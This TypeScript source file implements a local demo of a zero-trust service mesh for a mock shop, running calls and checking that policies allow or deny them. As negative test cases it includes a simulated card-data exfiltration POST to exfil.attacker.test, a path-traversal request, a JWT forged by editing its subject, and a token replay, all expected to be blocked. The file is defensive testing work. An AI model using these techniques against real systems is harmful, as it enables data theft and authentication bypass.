/**
 * `ztmesh demo`: a zero-trust e-commerce platform on loopback. Starts the control plane,
 * five services (each a tiny app behind its own sidecar) plus the storefront's sidecar, the
 * edge gateway with a local identity provider in front of them, drives traffic, and prints
 * which calls the mesh allowed and which it refused.
 */
import http from 'node:http';
import https from 'node:https';
import { spawn, type ChildProcess } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { LocalMesh } from '../control/launcher.js';
import type { GatewayHandle, SidecarHandle } from '../control/launcher.js';
import { DemoIdp } from './idp.js';
import { paint, renderTable, terminalWidth } from '../cli/output.js';
import { freePort } from '../util/net.js';
export { freePort };
import type { Writer } from '../cli/output.js';

const EXAMPLES = resolve(fileURLToPath(new URL('../../../examples/ecommerce', import.meta.url)));
const NS = 'production';
const SHOP = 'shop.demo.test';
const IDP_ISSUER = 'https://idp.demo.test';
const GATEWAY_ID = 'spiffe://cluster.local/ns/istio-system/sa/ingress-gateway';
const SERVICES = ['user-service', 'product-catalog', 'order-service', 'payment-service', 'shipping-service'] as const;
type Svc = (typeof SERVICES)[number] | 'web-frontend';

export interface DemoOptions {
  once: boolean;
  stdout: Writer;
  stderr: Writer;
  /** Keep the working directory (logs, certificates) after exit. */
  keep?: boolean;
}

interface CallResult {
  status: number | 'refused';
  body: string;
  ms: number;
  headers?: http.IncomingHttpHeaders;
}

interface Step {
  caller: string;
  target: string;
  request: string;
  expect: 'allowed' | 'denied' | 'refused';
  /** The exact status expected (default: judged by `expect`). */
  status?: number;
  why: string;
  run: () => Promise<CallResult>;
  /** Custom verdict (default: by status). */
  judge?: (r: CallResult) => boolean;
  note?: (r: CallResult) => string;
}

/** Send a request the way an app does: to its own sidecar's outbound proxy, absolute-form. */
export function viaProxy(proxyPort: number, method: string, url: string, body?: string, headers: http.OutgoingHttpHeaders = {}): Promise<CallResult> {
  const started = performance.now();
  return new Promise((resolve) => {
    const u = new URL(url);
    const req = http.request({ host: '127.0.0.1', port: proxyPort, method, path: url, headers: { host: u.host, ...headers, ...(body ? { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } : {}) }, agent: false }, (res) => {
      let text = '';
      res.on('data', (c) => (text += c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: text, ms: performance.now() - started }));
    });
    req.on('error', (e) => resolve({ status: 'refused', body: e.message, ms: performance.now() - started }));
    req.end(body);
  });
}

/** A client on the internet: HTTPS to the edge gateway for https://shop.demo.test, verifying its certificate. */
function viaGateway(g: GatewayHandle, caPem: string, method: string, path: string, o: { token?: string; body?: string } = {}): Promise<CallResult> {
  const started = performance.now();
  return new Promise((resolve) => {
    const headers: http.OutgoingHttpHeaders = { host: SHOP };
    if (o.token) headers.authorization = `Bearer ${o.token}`;
    if (o.body !== undefined) Object.assign(headers, { 'content-type': 'application/json', 'content-length': Buffer.byteLength(o.body) });
    const req = https.request({ host: '127.0.0.1', port: g.ports.https, servername: SHOP, ca: caPem, method, path, headers, agent: false, timeout: 5000 }, (res) => {
      let text = '';
      res.on('data', (c) => (text += c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: text, ms: performance.now() - started, headers: res.headers }));
    });
    req.on('timeout', () => req.destroy(new Error('timeout')));
    req.on('error', (e) => resolve({ status: 'refused', body: (e as NodeJS.ErrnoException).code ?? e.message, ms: performance.now() - started }));
    req.end(o.body);
  });
}

/** The claims of a compact JWT, for display (the mesh verified it; the demo only reads it). */
function claimsOf(token: string): Record<string, unknown> {
  try {
    return JSON.parse(Buffer.from(token.split('.')[1] ?? '', 'base64url').toString('utf8')) as Record<string, unknown>;
  } catch {
    return {};
  }
}

/** A plaintext client that bypasses the mesh and connects straight to a sidecar's port. */
function plaintext(port: number, method: string, path: string): Promise<CallResult> {
  const started = performance.now();
  return new Promise((resolve) => {
    const req = http.request({ host: '127.0.0.1', port, method, path, agent: false, timeout: 3000 }, (res) => {
      let text = '';
      res.on('data', (c) => (text += c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: text, ms: performance.now() - started }));
    });
    req.on('timeout', () => req.destroy(new Error('timeout')));
    req.on('error', (e) => resolve({ status: 'refused', body: (e as NodeJS.ErrnoException).code ?? e.message, ms: performance.now() - started }));
    req.end();
  });
}

/** Wait until the control plane serves a configuration newer than `before` (an error if it refused it). */
async function waitForConfig(mesh: LocalMesh, before: string | null, timeoutMs = 10_000): Promise<void> {
  const until = Date.now() + timeoutMs;
  for (;;) {
    const st = await mesh.admin<{ version: string | null; errors: { message: string; file?: string; line?: number }[] }>('GET', '/v1/config');
    if (st.version !== before) return;
    if (st.errors.length) throw new Error(`the control plane refused the demo's configuration: ${st.errors.map((e) => `${e.file ?? ''}:${e.line ?? ''} ${e.message}`).join('; ')}`);
    if (Date.now() > until) throw new Error(`the control plane did not load the edge configuration within ${timeoutMs} ms`);
    await new Promise((r) => setTimeout(r, 20));
  }
}

function outcome(r: CallResult): 'allowed' | 'denied' | 'refused' {
  if (r.status === 'refused') return 'refused';
  return r.status === 403 || r.status === 502 ? 'denied' : r.status >= 200 && r.status < 300 ? 'allowed' : 'denied';
}

export async function runDemo(o: DemoOptions): Promise<number> {
  const w = o.stdout;
  const say = (s: string) => o.stderr.write(s + '\n');
  const dir = mkdtempSync(join(tmpdir(), 'ztmesh-demo-'));
  const cfg = join(dir, 'config');
  cpSync(join(EXAMPLES, 'policies'), cfg, { recursive: true });
  let apps: ChildProcess | undefined;
  const idp = new DemoIdp({ issuer: IDP_ISSUER, audience: 'shop', dir: join(dir, 'idp') });
  // The gateway and the control plane (which verifies subject tokens for token exchange)
  // fetch the identity provider's JWKS over HTTPS: they trust its certificate.
  const mesh = new LocalMesh(join(dir, 'run'), [cfg], { env: { NODE_EXTRA_CA_CERTS: idp.caFile } });
  const cleanup = async () => {
    await mesh.stopAll().catch(() => undefined);
    await idp.close();
    apps?.kill('SIGTERM');
    if (!o.keep) rmSync(dir, { recursive: true, force: true });
  };
  try {
    // Apps first (on free loopback ports), so each sidecar knows where its app is.
    const appPorts: Record<string, number> = {};
    for (const s of [...SERVICES, 'partner-api']) appPorts[s] = await freePort();
    const orderProxy = await freePort();
    // A partner API outside the mesh, reachable only through a ServiceEntry.
    writeFileSync(
      join(cfg, '60-egress-partner.yaml'),
      `# Egress: order-service may reach the partner API outside the mesh; every other host is refused.
apiVersion: networking.istio.io/v1
kind: ServiceEntry
metadata:
  name: partner-api
  namespace: ${NS}
spec:
  hosts: ["api.partner.test"]
  location: MESH_EXTERNAL
  ports: [{number: 80, name: http, protocol: HTTP, targetPort: ${appPorts['partner-api']}}]
  resolution: STATIC
  endpoints: [{address: 127.0.0.1}]
`,
    );
    say(paint(o.stderr, 'bold', 'ztmesh demo: a zero-trust e-commerce platform on loopback'));
    say(`  working directory ${dir}`);
    apps = spawn(process.execPath, [join(EXAMPLES, 'apps', 'apps.mjs'), JSON.stringify(appPorts), JSON.stringify({ 'order-service': { proxy: `http://127.0.0.1:${orderProxy}` } })], { stdio: ['ignore', 'pipe', 'inherit'] });
    await new Promise<void>((res, rej) => {
      apps!.stdout!.once('data', () => res());
      apps!.once('exit', (c) => rej(new Error(`the demo apps exited (${c})`)));
    });
    say('  ✓ apps started: ' + SERVICES.join(', '));
    await idp.start();
    say(`  ✓ identity provider ${IDP_ISSUER}: ${idp.tokenUrl} (users alice, bob)`);
    const cp = await mesh.startControl();
    say(`  ✓ control plane: mTLS 127.0.0.1:${cp.port}, admin http://127.0.0.1:${cp.adminPort}, CA for ${cp.trustDomain}`);
    // The edge's configuration names the identity provider's JWKS and the control plane's
    // token-exchange JWKS, whose addresses are known only now.
    const before = (await mesh.admin<{ version: string | null }>('GET', '/v1/config')).version;
    const edge = readFileSync(join(EXAMPLES, 'edge', 'edge.yaml'), 'utf8').replaceAll('https://idp.demo.test/.well-known/jwks.json', idp.jwksUri).replaceAll('http://ztmesh-control.demo.test:15014/.well-known/jwks.json', `http://127.0.0.1:${cp.adminPort}/.well-known/jwks.json`);
    writeFileSync(join(cfg, '70-edge.yaml'), edge);
    await waitForConfig(mesh, before);
    const sc: Partial<Record<Svc, SidecarHandle>> = {};
    // The gateway's HTTPS certificate for shop.demo.test is issued by the mesh CA (the Gateway
    // resource lists the host); internet clients here trust the mesh's roots.
    const gwCa = readFileSync(cp.bundlePath, 'utf8');
    let gateway!: GatewayHandle;
    await Promise.all([
      mesh.startGateway({ dnsNames: [SHOP] }).then((g) => (gateway = g)),
      ...[...SERVICES, 'web-frontend' as const].map(async (name) => {
        sc[name] = await mesh.startSidecar({
          service: name,
          namespace: NS,
          serviceAccount: name,
          labels: { app: name },
          appPort: name === 'web-frontend' ? appPorts['user-service'] : appPorts[name],
          servicePort: 8080,
          extraArgs: name === 'order-service' ? ['--outbound-port', String(orderProxy)] : [],
        });
      }),
    ]);
    await mesh.waitInSync();
    say(`  ✓ 6 sidecars with SPIFFE identities, configuration in sync`);
    say(`  ✓ edge gateway https://${SHOP} on 127.0.0.1:${gateway.ports.https} (identity ${gateway.ports.spiffeId}; its HTTPS certificate for ${SHOP} issued by the mesh CA)`);
    say('');

    const as = (svc: Svc, method: string, url: string, body?: string) => () => viaProxy(sc[svc]!.ports.outbound, method, url, body);
    const ORDER_ID = 'spiffe://cluster.local/ns/production/sa/order-service';
    const steps: Step[] = [
      { caller: 'web-frontend', target: 'user-service', request: 'GET /api/v1/users/42', expect: 'allowed', why: 'storefront reads a profile', run: as('web-frontend', 'GET', 'http://user-service:8080/api/v1/users/42') },
      { caller: 'web-frontend', target: 'order-service', request: 'POST /api/v1/orders', expect: 'allowed', why: 'order calls catalog + payment', run: as('web-frontend', 'POST', 'http://order-service:8080/api/v1/orders', '{"product":7}') },
      { caller: 'web-frontend', target: 'shipping-service', request: 'GET /api/v1/shipments/9', expect: 'allowed', why: 'storefront tracks a parcel', run: as('web-frontend', 'GET', 'http://shipping-service:8080/api/v1/shipments/9') },
      { caller: 'order-service', target: 'product-catalog', request: 'GET /api/v1/products/7', expect: 'allowed', why: 'explicit allow', run: as('order-service', 'GET', 'http://product-catalog:8080/api/v1/products/7') },
      { caller: 'order-service', target: 'payment-service', request: 'POST /api/v1/charges', expect: 'allowed', why: 'explicit allow', run: as('order-service', 'POST', 'http://payment-service:8080/api/v1/charges', '{"amount":1999}') },
      { caller: 'order-service', target: 'user-service', request: 'GET /api/v1/users', expect: 'denied', why: 'compromised order: default deny', run: as('order-service', 'GET', 'http://user-service:8080/api/v1/users') },
      { caller: 'order-service', target: 'payment-service', request: 'POST /admin/export', expect: 'denied', why: 'compromised order: DENY /admin', run: as('order-service', 'POST', 'http://payment-service:8080/admin/export') },
      { caller: 'order-service', target: 'payment-service', request: 'GET /api/v1/charges', expect: 'denied', why: 'compromised order: only POST', run: as('order-service', 'GET', 'http://payment-service:8080/api/v1/charges') },
      { caller: 'order-service', target: 'payment-service', request: 'POST /api/v1/charges/../../../admin/x', expect: 'denied', why: 'normalized to /admin/x', run: as('order-service', 'POST', 'http://payment-service:8080/api/v1/charges/../../../admin/x') },
      { caller: 'order-service', target: 'product-catalog', request: 'PUT /api/v1/products/7', expect: 'denied', why: 'compromised order: read-only', run: as('order-service', 'PUT', 'http://product-catalog:8080/api/v1/products/7', '{"price":1}') },
      { caller: 'web-frontend', target: 'payment-service', request: 'POST /api/v1/charges', expect: 'denied', why: 'only order-service may charge', run: as('web-frontend', 'POST', 'http://payment-service:8080/api/v1/charges', '{"amount":1}') },
      { caller: 'plaintext client', target: 'payment-service', request: 'POST /api/v1/charges', expect: 'refused', why: 'STRICT mTLS: plaintext reset', run: () => plaintext(sc['payment-service']!.ports.inbound, 'POST', '/api/v1/charges') },
      { caller: 'order-service', target: 'api.partner.test', request: 'GET /v1/rates', expect: 'allowed', why: 'egress via ServiceEntry', run: as('order-service', 'GET', 'http://api.partner.test/v1/rates') },
      { caller: 'order-service', target: 'exfil.attacker.test', request: 'POST /upload', expect: 'denied', why: 'egress: no ServiceEntry', run: as('order-service', 'POST', 'http://exfil.attacker.test/upload', '{"cards":"..."}') },
    ];

    const rows: string[][] = [];
    let failures = 0;
    const record = (s: Step, r: CallResult) => {
      const got = outcome(r);
      const ok = s.judge ? s.judge(r) : got === s.expect && (s.status === undefined || r.status === s.status);
      if (!ok) failures++;
      const status = r.status === 'refused' ? r.body : String(r.status);
      const col = got === 'allowed' ? 'green' : 'red';
      rows.push([String(rows.length + 1), `${s.caller} → ${s.target}`, s.request, paint(w, col, `${got} ${status}`), ok ? paint(w, 'green', '✓') : paint(w, 'red', `✗ expected ${s.expect}`), s.note?.(r) || s.why]);
    };
    for (const s of steps) record(s, await s.run());

    // Quarantine: an incident responder cuts order-service off without a policy review.
    const qStart = performance.now();
    await mesh.admin('POST', '/v1/quarantine', { spiffeId: ORDER_ID });
    let q: CallResult = { status: 0, body: '', ms: 0 };
    while (performance.now() - qStart < 5000) {
      q = await viaProxy(sc['order-service']!.ports.outbound, 'POST', 'http://payment-service:8080/api/v1/charges', '{"amount":1}');
      if (q.status === 403) break;
      await new Promise((r) => setTimeout(r, 20));
    }
    const qMs = performance.now() - qStart;
    record({ caller: 'order-service', target: 'payment-service', request: 'POST /api/v1/charges', expect: 'denied', why: '', run: async () => q, judge: (r) => r.status === 403 && qMs <= 1000, note: () => `quarantined: denied after ${Math.round(qMs)} ms` }, q);
    await mesh.admin('POST', '/v1/quarantine', { spiffeId: ORDER_ID, lift: true });
    let lifted: CallResult = { status: 0, body: '', ms: 0 };
    const lStart = performance.now();
    while (performance.now() - lStart < 5000) {
      lifted = await viaProxy(sc['order-service']!.ports.outbound, 'POST', 'http://payment-service:8080/api/v1/charges', '{"amount":1}');
      if (lifted.status === 201) break;
      await new Promise((r) => setTimeout(r, 20));
    }
    record({ caller: 'order-service', target: 'payment-service', request: 'POST /api/v1/charges', expect: 'allowed', why: 'quarantine lifted', run: async () => lifted }, lifted);

    // The edge: clients on the internet, end-user tokens from the identity provider.
    const viaEdge = (method: string, path: string, o: { token?: string; body?: string } = {}) => () => viaGateway(gateway, gwCa, method, path, o);
    const alice = idp.issue('alice');
    // alice's token with its subject edited to "admin", the signature left as it was.
    const [head, , sig] = alice.split('.');
    const forged = `${head}.${Buffer.from(JSON.stringify({ ...claimsOf(alice), sub: 'admin' })).toString('base64url')}.${sig}`;
    const lastToken = async (): Promise<string | null> => {
      const r = await fetch(`http://127.0.0.1:${appPorts['order-service']}/internal/last-token`).then((x) => x.json() as Promise<{ token: string | null }>).catch(() => ({ token: null }));
      return r.token;
    };
    let minted: string | null = null;
    const edgeSteps: Step[] = [
      { caller: 'internet', target: 'gateway → product-catalog', request: 'GET /api/v1/products/7', expect: 'allowed', status: 200, why: 'catalog is public at the edge', run: viaEdge('GET', '/api/v1/products/7') },
      {
        caller: 'alice', target: 'gateway → order-service', request: 'POST /api/v1/orders', expect: 'allowed', status: 201, why: '',
        run: async () => {
          const r = await viaEdge('POST', '/api/v1/orders', { token: alice, body: '{"product":7}' })();
          minted = await lastToken();
          return r;
        },
        judge: (r) => r.status === 201 && !!minted && claimsOf(minted).aud === 'order-service.production' && (claimsOf(minted).act as { sub?: string } | undefined)?.sub === GATEWAY_ID,
        note: () => (minted ? `exchanged: aud ${String(claimsOf(minted).aud)}` : 'order-service got no token'),
      },
      { caller: 'anonymous', target: 'gateway → order-service', request: 'POST /api/v1/orders', expect: 'denied', status: 403, why: 'orders need a signed-in user', run: viaEdge('POST', '/api/v1/orders', { body: '{"product":7}' }) },
      { caller: 'forged token', target: 'gateway → order-service', request: 'POST /api/v1/orders', expect: 'denied', status: 401, why: 'sub edited, signature kept: 401', run: viaEdge('POST', '/api/v1/orders', { token: forged, body: '{"product":7}' }) },
      { caller: 'expired token', target: 'gateway → order-service', request: 'POST /api/v1/orders', expect: 'denied', status: 401, why: 'expired 10 minutes ago: 401', run: viaEdge('POST', '/api/v1/orders', { token: idp.issue('alice', { expiresIn: -600 }), body: '{"product":7}' }) },
      { caller: 'alice', target: 'gateway → order-service', request: 'POST /api/v1/orders 64K', expect: 'denied', status: 413, why: 'body over the 16 KiB limit', run: viaEdge('POST', '/api/v1/orders', { token: alice, body: JSON.stringify({ note: 'x'.repeat(64 * 1024) }) }) },
    ];
    for (const s of edgeSteps) record(s, await s.run());
    // A burst on the catalog: 5 requests per second per client address, then 429 with Kong's headers.
    let burst: CallResult = { status: 0, body: '', ms: 0 };
    let sent = 0;
    for (; sent < 20 && burst.status !== 429; sent++) burst = await viaGateway(gateway, gwCa, 'GET', '/api/v1/products/7');
    record(
      { caller: `internet ×${sent}`, target: 'gateway → product-catalog', request: 'GET /api/v1/products/7', expect: 'denied', status: 429, why: '', run: async () => burst, note: (r) => (r.status === 429 ? `over 5/s: Retry-After ${String(r.headers?.['retry-after'])}` : 'never limited') },
      burst,
    );
    // A compromised order-service replays the token it was given at payment-service.
    const replay = minted ? await viaProxy(sc['order-service']!.ports.outbound, 'POST', 'http://payment-service:8080/api/v1/charges', '{"amount":1}', { authorization: `Bearer ${minted}` }) : { status: 'refused' as const, body: 'no token', ms: 0 };
    record({ caller: 'order-service', target: 'payment-service', request: 'POST /api/v1/charges', expect: 'denied', status: 401, why: 'replays a token minted for order', run: async () => replay }, replay);

    w.write(renderTable(['#', 'call', 'request', 'result', '', 'why'], rows, w.isTTY ? terminalWidth(w) : 200));
    const total = rows.length;
    w.write(`\n${total - failures} passed, ${failures} failed\n`);
    if (failures) w.write(paint(w, 'red', `✗ ${failures} expectation${failures === 1 ? '' : 's'} did not hold (logs: ${dir}/run)\n`));
    else w.write(paint(w, 'green', '✓ every call went exactly as the policies say\n'));

    if (o.once) return failures ? 1 : 0;
    w.write(`\nThe mesh keeps running. Try:\n`);
    w.write(`  npx ztmesh status --admin http://127.0.0.1:${cp.adminPort}\n`);
    w.write(`  curl -x http://127.0.0.1:${sc['order-service']!.ports.outbound} http://payment-service:8080/api/v1/charges -X POST\n`);
    w.write(`  npx ztmesh quarantine ${ORDER_ID} --admin http://127.0.0.1:${cp.adminPort}\n`);
    const edgeCurl = `curl --cacert ${cp.bundlePath} --resolve ${SHOP}:${gateway.ports.https}:127.0.0.1`;
    w.write(`  ${edgeCurl} https://${SHOP}:${gateway.ports.https}/api/v1/products/7\n`);
    w.write(`  TOKEN=$(curl -s --cacert ${idp.caFile} ${idp.tokenUrl} -d username=alice -d password=wonderland | node -pe 'JSON.parse(require("fs").readFileSync(0)).access_token')\n`);
    w.write(`  ${edgeCurl} -H "authorization: Bearer $TOKEN" https://${SHOP}:${gateway.ports.https}/api/v1/orders -d '{"product":7}'\n`);
    w.write(`Metrics: ${[...SERVICES, 'web-frontend' as const].map((s) => `${s} http://127.0.0.1:${sc[s]!.ports.admin}/metrics`).concat(`gateway http://127.0.0.1:${gateway.ports.admin}/metrics`).join('\n         ')}\n`);
    w.write(`Access logs and process logs: ${join(dir, 'run')}${o.keep ? '' : ' (removed on exit; --keep keeps them)'}\nPress Ctrl-C to stop.\n`);
    await new Promise<void>((r) => {
      process.once('SIGINT', () => r());
      process.once('SIGTERM', () => r());
    });
    return failures ? 1 : 0;
  } finally {
    await cleanup();
  }
}
